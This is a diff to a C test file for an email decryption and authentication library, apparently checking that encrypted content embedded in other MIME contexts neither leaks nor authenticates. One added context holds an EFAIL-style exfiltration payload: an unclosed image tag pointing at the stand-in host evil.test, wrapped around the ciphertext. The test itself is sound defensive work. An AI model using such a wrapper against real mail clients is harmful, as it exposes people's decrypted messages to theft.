@@ -16,7 +16,9 @@ static const char *const contexts[] = {
     MIXED("mixed") IMG "--o\r\n%s\r\n--o\r\nContent-Type: text/html\r\n\r\n\">\r\n--o--\r\n",
     MIXED("related") IMG "--o\r\n%s\r\n--o--\r\n",
     MIXED("alternative") "--o\r\n\r\nx\r\n--o\r\n%s\r\n--o--\r\n",
-    MIXED("mixed") "look:\r\n--o\r\n%s\r\n--o--\r\n",
+    MIXED("mixed") "<img src=\"http://evil.test/\r\n--o\r\n%s\r\n--o--\r\n",
+    MIXED("mixed") "--o\r\n%s\r\n--o--\r\n\">\r\n",
+    MIXED("mixed") "--o\r\nSubject: x\r\n%s\r\n--o--\r\n",
     MIXED("mixed") "--o\r\n\r\nplease quote this\r\n--o\r\nContent-Disposition: attachment; "
                    "filename=smime.p7m\r\n%s\r\n--o--\r\n",
     MIXED("mixed") "--o\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n%s\r\n--i--\r\n--o--\r\n",
@@ -74,6 +76,15 @@ Test(decryption, ciphertext_in_another_context_authenticates_nobody)
     PKI_AUTO struct pki *mallory = pki_person(ca, "mallory@evil.test");
     AUTO_SENT struct sent out = rig_outbound(rig, ATTACK_TOP ATTACK_ENTITY);
     for (enum around around = AROUND_NOTHING; around < AROUND_END; around++) {
+        /* with nothing beside it in a multipart, it is the whole message, too, but not within a layer of hers */
+        g_autofree char *alone = g_strconcat(MIXED("mixed") "--o\r\n", attack_entity_of(&out), "\r\n--o--\r\n", NULL);
+        g_autofree char *text_alone = put_around(around, rig, mallory, alone);
+        AUTO_SENT struct sent in_alone = attack_in(rig, text_alone);
+        attack_expect_safe(&in_alone, "alone in a multipart");
+        cr_expect_neq(in_alone.result->plan.judgement.domain.outcome, OUTCOME_PASS);
+        cr_expect_neq(in_alone.result->plan.judgement.originator.outcome, OUTCOME_PASS);
+        cr_expect_eq(strstr(in_alone.bytes, ATTACK_SECRET) != NULL, around == AROUND_NOTHING, "%d: %s", around,
+                     in_alone.bytes);
         g_autofree char *text = put_around(around, rig, mallory, attack_entity_of(&out));
         AUTO_SENT struct sent in = attack_in(rig, text);
         attack_expect_safe(&in, "another context");
